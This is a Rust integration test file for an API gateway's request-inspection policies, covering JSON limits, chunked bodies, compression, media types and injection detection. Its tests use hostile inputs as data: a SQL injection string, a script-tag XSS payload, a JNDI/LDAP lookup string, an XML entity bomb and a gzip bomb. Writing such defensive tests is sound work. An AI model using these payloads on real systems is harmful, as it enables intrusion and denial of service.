//! Policies that look through requests, over real sockets: what they refuse, what they let pass, and what they tell.

use std::io::Write;

use crate::support::*;
use serde_json::{Value, json};

/// Everything goes to an upstream that remembers it, by these policies.
async fn gateway(policies: Value) -> (Gateway, Heard) {
    let (target, heard) = echo().await;
    let names: Vec<_> = policies.as_array().unwrap().iter().map(|it| it["name"].clone()).collect();
    let mut words = forward_all(target);
    words["policies"] = policies;
    words["routes"][0]["policies"] = json!(names);
    (Gateway::start(words), heard)
}

async fn post(gateway: &Gateway, kind: &str, body: impl AsRef<[u8]>) -> String {
    let fields = format!("content-type: {kind}\r\n");
    send(gateway, &fields, body.as_ref()).await
}

async fn send(gateway: &Gateway, fields: &str, body: &[u8]) -> String {
    let head = format!(
        "POST /x HTTP/1.1\r\nhost: api.test\r\nconnection: close\r\n{fields}content-length: {}\r\n\r\n",
        body.len()
    );
    raw(gateway.address, [head.as_bytes(), body].concat()).await
}

fn gzip(bytes: &[u8]) -> Vec<u8> {
    let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    encoder.write_all(bytes).unwrap();
    encoder.finish().unwrap()
}

const JSON: &str = "application/json";

#[tokio::test]
async fn json_beyond_its_bounds_is_refused_with_pointers_and_goes_nowhere() {
    let (gateway, heard) = gateway(json!([{"name": "small", "json": {"max_depth": 3, "max_array": 2}}])).await;
    let answer = post(&gateway, JSON, r#"{"a/b": [{"c": [[1]]}, [1, 2, 3]], "d": 1, "d": 2}"#).await;
    check_problem(&answer, 400, "validation_failed");
    let errors = &problem(&answer)["errors"];
    let found: Vec<_> = errors.as_array().unwrap().iter().map(|it| (&it["pointer"], &it["rule"])).collect();
    assert_eq!(json!(found), json!([["/a~1b/0/c", "max_depth"], ["/a~1b/1", "max_array"], ["/d", "duplicate_keys"]]));
    assert_eq!(errors[0]["in"], "body");
    assert_eq!(heard.count(), 0);

    let whole = r#"{"a": [{"c": 1}], "d": "1"}"#;
    for kind in [JSON, "application/vnd.api+json; charset=utf-8", "text/plain"] {
        assert_eq!(status(&post(&gateway, kind, whole).await), 200, "{kind}");
        assert!(heard.last().ends_with(whole), "it goes on as it came: {}", heard.last());
        assert!(heard.last().contains(&format!("content-length: {}", whole.len())));
    }
    // Another type is nobody's; none at all is what it looks like.
    assert_eq!(status(&post(&gateway, "text/plain", "[[[[1]]]]").await), 200);
    assert_eq!(status(&send(&gateway, "", b" [[[[1]]]]").await), 400);
    assert_eq!(status(&send(&gateway, "", b"a=1").await), 200);
    assert_eq!(status(&ask(gateway.address, "GET /x", &["content-type: application/json"], "").await), 200);
    let counted =
        |result: &str| gateway.metric(&format!("quorumgate_policy_total{{policy=\"small\",result=\"{result}\"}}"));
    assert_eq!((counted("passed"), counted("refused")), (2, 2));
}

#[tokio::test]
async fn a_body_in_many_parts_is_looked_at_whole_and_passed_on_whole() {
    let (gateway, heard) = gateway(json!([{"name": "j", "json": {"body_max": "1KiB"}}])).await;
    let chunked = async |body: &str, trailers: &str| {
        let chunks: String = body.bytes().map(|b| format!("1\r\n{}\r\n", char::from(b))).collect();
        let head = "POST /x HTTP/1.1\r\nhost: a\r\nconnection: close\r\ncontent-type: application/json\r\ntransfer-encoding: chunked\r\n\r\n";
        raw(gateway.address, format!("{head}{chunks}0\r\n{trailers}\r\n")).await
    };
    assert_eq!(status(&chunked(r#"{"a": [1, 2]}"#, "").await), 200);
    assert!(heard.last().ends_with(r#"{"a": [1, 2]}"#));
    assert_eq!(status(&chunked(r#"{"b": 1}"#, "x-sum: 7\r\n").await), 200);
    assert!(heard.last().ends_with(r#"{"b": 1}"#));
    check_problem(&chunked(r#"{"a": 1, "a": 1}"#, "").await, 400, "validation_failed");
    let long = format!("\"{}\"", "x".repeat(2_000));
    check_problem(&chunked(&long, "").await, 413, "content_too_large");
    assert_eq!(heard.count(), 2);
    gateway.metric_becomes("quorumgate_http_buffered_bytes", 0).await;
}

#[tokio::test]
async fn what_a_policy_cannot_look_through_is_refused_where_it_enforces() {
    let (gateway, heard) =
        gateway(json!([{"name": "j", "json": {"body_max": "64KiB", "other_types": "refuse"}}])).await;
    let text = |bytes: usize| format!("\"{}\"", "x".repeat(bytes - 2));
    assert_eq!(status(&post(&gateway, JSON, text(64 << 10)).await), 200);
    let answer = post(&gateway, JSON, text((64 << 10) + 1)).await;
    check_problem(&answer, 413, "content_too_large");
    assert!(answer.contains("look through"), "{answer}");
    check_problem(&post(&gateway, "application/xml", "<a/>").await, 415, "unsupported_media_type");
    check_problem(&send(&gateway, "", b"a=1").await, 415, "unsupported_media_type");

    let packed = "content-type: application/json\r\ncontent-encoding: gzip\r\n";
    assert_eq!(status(&send(&gateway, packed, &gzip(b"[1]")).await), 200);
    assert!(heard.last().contains("content-encoding: gzip"));
    check_problem(&send(&gateway, packed, &gzip("[".repeat(99).as_bytes())).await, 400, "validation_failed");
    // A bomb is unpacked up to the bound.
    check_problem(&send(&gateway, packed, &gzip(&vec![b'['; 8 << 20])).await, 413, "content_too_large");
    check_problem(&send(&gateway, packed, b"not gzip").await, 400, "malformed_request");
    let twice = "content-type: application/json\r\ncontent-encoding: gzip, br\r\n";
    check_problem(&send(&gateway, twice, b"x").await, 415, "unsupported_media_type");
    assert_eq!(heard.count(), 2);
    gateway.metric_becomes("quorumgate_http_buffered_bytes", 0).await;
}

#[tokio::test]
async fn where_it_only_detects_everything_passes_and_is_told() {
    let policy = json!({"mode": "detect", "max_depth": 1, "body_max": "1KiB", "other_types": "refuse"});
    let (gateway, heard) = gateway(json!([{"name": "d", "json": policy}])).await;
    for (fields, body, shadow) in [
        ("content-type: application/json\r\n", b"{\"a\":[1]}".to_vec(), "d: max_depth in body/a"),
        ("content-type: application/json\r\n", format!("[{}]", "1,".repeat(1_000)).into_bytes(), "d: body_max in body"),
        ("content-type: text/plain\r\n", b"hello".to_vec(), "d: other_types in body"),
        (
            "content-type: application/json\r\ncontent-encoding: gzip\r\n",
            b"no gzip".to_vec(),
            "d: content_encoding in body",
        ),
        (
            "content-type: application/json\r\ncontent-encoding: br, gzip\r\n",
            b"x".to_vec(),
            "d: content_encoding in body",
        ),
    ] {
        let answer = send(&gateway, fields, &body).await;
        assert_eq!(status(&answer), 200, "{shadow}");
        assert!(heard.last().as_bytes().ends_with(&body), "{shadow}");
        let id = field(&answer, "x-request-id").unwrap().parse().unwrap();
        let told = until_some(async || gateway.proxy.exchange(id).await).await;
        assert_eq!((told.phase, told.shadow.iter().map(|it| &**it).collect::<Vec<_>>()), ("validation", vec![shadow]));
    }
    // One whose length nobody knows beforehand is read up to the bound and goes on from its start.
    let chunk = "x".repeat(0x300);
    let head = "POST /x HTTP/1.1\r\nhost: a\r\nconnection: close\r\ncontent-type: application/json\r\ntransfer-encoding: chunked\r\n\r\n";
    let answer =
        raw(gateway.address, format!("{head}300\r\n{chunk}\r\n300\r\n{chunk}\r\n300\r\n{chunk}\r\n0\r\n\r\n")).await;
    assert_eq!(status(&answer), 200);
    assert!(heard.last().ends_with(&format!("\n\n{chunk}{chunk}{chunk}")));
    let counted =
        |result: &str| gateway.metric(&format!("quorumgate_policy_total{{policy=\"d\",result=\"{result}\"}}"));
    assert_eq!((counted("detected"), counted("unseen")), (1, 5));
}

/// Asks until there is an answer.
async fn until_some<T>(mut ask: impl AsyncFnMut() -> Option<T>) -> T {
    soon("something to tell", async {
        loop {
            if let Some(found) = ask().await {
                return found;
            }
            tokio::time::sleep(std::time::Duration::from_millis(2)).await;
        }
    })
    .await
}

#[tokio::test]
async fn several_policies_see_one_body_and_those_that_are_off_see_none() {
    let policies = json!([
        {"name": "watch", "json": {"mode": "detect", "max_keys": 1}},
        {"name": "off", "json": {"mode": "off", "max_depth": 1}},
        {"name": "guard", "json": {"max_depth": 2}},
        {"name": "nets", "ip": {"deny": ["192.0.2.0/24"]}},
    ]);
    let (gateway, _heard) = gateway(policies).await;
    assert_eq!(status(&post(&gateway, JSON, r#"{"a": {"b": 1}, "c": 2}"#).await), 200);
    let answer = post(&gateway, JSON, r#"{"a": {"b": {}}, "c": 2}"#).await;
    check_problem(&answer, 400, "validation_failed");
    let id = field(&answer, "x-request-id").unwrap().parse().unwrap();
    let told = until_some(async || gateway.proxy.exchange(id).await).await;
    let decided = (told.phase, told.policy.as_deref(), told.rule.as_deref(), told.numbers.as_slice());
    assert_eq!(decided, ("validation", Some("guard"), Some("max_depth"), &[("errors", 1)][..]));
    assert_eq!(told.shadow, ["watch: max_keys in body".into()]);
    let counted = |policy: &str, result: &str| {
        gateway.metric(&format!("quorumgate_policy_total{{policy=\"{policy}\",result=\"{result}\"}}"))
    };
    assert_eq!((counted("watch", "detected"), counted("guard", "passed"), counted("guard", "refused")), (2, 1, 1));
    assert_eq!((counted("off", "passed"), counted("off", "refused")), (0, 0));
}

#[tokio::test]
async fn routes_that_answer_themselves_look_through_bodies_too() {
    let words = json!({
        "policies": [{"name": "j", "json": {}}],
        "routes": [{"name": "r", "respond": {"status": 200, "body": "fine"}, "policies": ["j"]}],
    });
    let gateway = Gateway::start(words);
    assert_eq!(status(&post(&gateway, JSON, "[1]").await), 200);
    check_problem(&post(&gateway, JSON, "[".repeat(40) + &"]".repeat(40)).await, 400, "validation_failed");
    check_problem(&post(&gateway, JSON, "{'a': 1}").await, 400, "validation_failed");
}

#[tokio::test]
async fn each_kind_takes_its_own_types() {
    let policies = json!([
        {"name": "x", "xml": {"other_types": "refuse"}},
        {"name": "m", "multipart": {"max_files": 0}},
        {"name": "g", "graphql": {"max_depth": 2}},
    ]);
    let (gateway, heard) = gateway(policies).await;
    let upload = |file: &str| format!("--b\r\nContent-Disposition: form-data; name=\"a\"{file}\r\n\r\n1\r\n--b--\r\n");
    let form = "multipart/form-data; boundary=b";
    for (kind, body) in [
        ("application/xml", "<a><b/></a>".to_owned()),
        (form, upload("")),
        ("application/graphql", "{ a { b } }".to_owned()),
        (JSON, json!({"query": "{ a { b } }"}).to_string()),
    ] {
        assert_eq!(status(&post(&gateway, kind, &body).await), 200, "{kind}");
        assert!(heard.last().ends_with(&body), "{kind}");
    }
    let bomb = "<!DOCTYPE l [<!ENTITY a \"aaaa\"><!ENTITY b \"&a;&a;&a;\">]><l>&b;</l>";
    for (kind, body, rule) in [
        ("application/soap+xml", bomb.to_owned(), "dtd"),
        (form, upload("; filename=\"f\""), "max_files"),
        ("application/graphql", "{ a { b { c } } }".to_owned(), "max_depth"),
        (JSON, json!({"query": "{ __schema { a } }"}).to_string(), "introspection"),
    ] {
        let answer = post(&gateway, kind, &body).await;
        check_problem(&answer, 400, "validation_failed");
        assert_eq!(problem(&answer)["errors"][0]["rule"], rule, "{answer}");
    }
    check_problem(&ask(gateway.address, "GET /?query=%7Ba%7Bb%7Bc%7D%7D%7D", &[], "").await, 400, "validation_failed");
    check_problem(&post(&gateway, "text/plain", "hi").await, 415, "unsupported_media_type");
    assert_eq!(heard.count(), 4);
}

#[tokio::test]
async fn letters_that_nobody_here_reads_go_nowhere() {
    let (gateway, heard) =
        gateway(json!([{"name": "j", "json": {}}, {"name": "i", "injection": {"mode": "enforce"}}])).await;
    for kind in ["application/json; charset=utf-7", "application/x-www-form-urlencoded; charset=ibm037"] {
        check_problem(&post(&gateway, kind, "{}").await, 415, "unsupported_media_type");
    }
    assert_eq!(status(&post(&gateway, "application/json; charset=UTF-8", "{}").await), 200);
    assert_eq!(heard.count(), 1);
}

#[tokio::test]
async fn attacks_are_told_first_and_refused_where_that_is_asked_for() {
    let (watching, heard) = gateway(json!([{"name": "i", "injection": {}}])).await;
    let attack = "GET /search?q=1%27%20OR%20%271%27%3D%271";
    let answer = ask(watching.address, attack, &[], "").await;
    assert_eq!((status(&answer), heard.count()), (200, 1));
    let id = field(&answer, "x-request-id").unwrap().parse().unwrap();
    let told = until_some(async || watching.proxy.exchange(id).await).await;
    assert_eq!(told.shadow, ["i: sqli in query/q".into()]);

    let words = json!({"mode": "enforce", "exceptions": [{"in": "body", "pointer": "/code"}]});
    let (guarded, heard) = gateway(json!([{"name": "i", "injection": words}])).await;
    let answer = ask(guarded.address, attack, &[], "").await;
    check_problem(&answer, 400, "validation_failed");
    let error = &problem(&answer)["errors"][0];
    assert_eq!((&error["in"], &error["pointer"], &error["rule"]), (&json!("query"), &json!("/q"), &json!("sqli")));
    let script = json!({"code": "<script>alert(1)</script>"}).to_string();
    assert_eq!(status(&post(&guarded, JSON, &script).await), 200);
    check_problem(&post(&guarded, JSON, script.replace("code", "text")).await, 400, "validation_failed");
    check_problem(
        &ask(guarded.address, "GET /", &["user-agent: ${jndi:ldap://x.test/a}"], "").await,
        400,
        "validation_failed",
    );
    // The client alone says that it would speak WebSocket.
    let key = "sec-websocket-key: AAAAAAAAAAAAAAAAAAAAAA==";
    let fields = ["connection: upgrade", "upgrade: websocket", "sec-websocket-version: 13", key];
    check_problem(&ask(guarded.address, attack, &fields, "").await, 400, "validation_failed");
    assert_eq!(heard.count(), 1);
}

#[tokio::test]
async fn without_a_type_a_body_is_what_it_begins_like() {
    let (gateway, heard) = gateway(json!([{"name": "j", "json": {"max_depth": 1, "max_string": "4"}}])).await;
    let wide = |text: &str| text.encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<_>>();
    let marked = |text: &[u8]| [b"\xef\xbb\xbf", text].concat();
    for body in [marked(b"{\"a\": []}"), b" \"12345\"".to_vec(), wide("{}"), wide("\u{feff}{}"), b"\0\0\0{".to_vec()] {
        check_problem(&send(&gateway, "", &body).await, 400, "validation_failed");
    }
    assert_eq!(heard.count(), 0);
    for body in [marked(b"[1]"), b"\"1234\"".to_vec(), b"a=1".to_vec()] {
        assert_eq!(status(&send(&gateway, "", &body).await), 200);
    }
    // No bytes are no JSON, however that is said.
    let head = "POST / HTTP/1.1\r\nhost: a\r\nconnection: close\r\ncontent-type: application/json\r\n";
    for rest in ["content-length: 0\r\n\r\n", "transfer-encoding: chunked\r\n\r\n0\r\n\r\n"] {
        assert_eq!(status(&raw(gateway.address, format!("{head}{rest}")).await), 200, "{rest}");
    }
}

#[tokio::test]
async fn no_more_is_held_for_policies_than_the_node_may_hold() {
    let (target, heard) = echo().await;
    let mut words = forward_all(target);
    words["policies"] = json!([{"name": "j", "json": {}}]);
    words["routes"][0]["policies"] = json!(["j"]);
    let mut few = settings();
    few.workers = 1;
    few.limits.buffered_bytes_max = 200 << 10;
    let gateway = Gateway::with(few, words);
    let text = |bytes: usize| format!("\"{}\"", "x".repeat(bytes));
    let packed = "content-type: application/json\r\ncontent-encoding: gzip\r\n";
    assert_eq!(status(&send(&gateway, packed, &gzip(text(50 << 10).as_bytes())).await), 200);
    gateway.metric_becomes("quorumgate_http_buffered_bytes", 0).await;
    check_problem(&send(&gateway, packed, &gzip(text(400 << 10).as_bytes())).await, 503, "overloaded");
    gateway.metric_becomes("quorumgate_http_buffered_bytes", 0).await;
    check_problem(&post(&gateway, JSON, text(400 << 10)).await, 503, "overloaded");
    gateway.metric_becomes("quorumgate_http_buffered_bytes", 0).await;
    assert_eq!(heard.count(), 1);
}
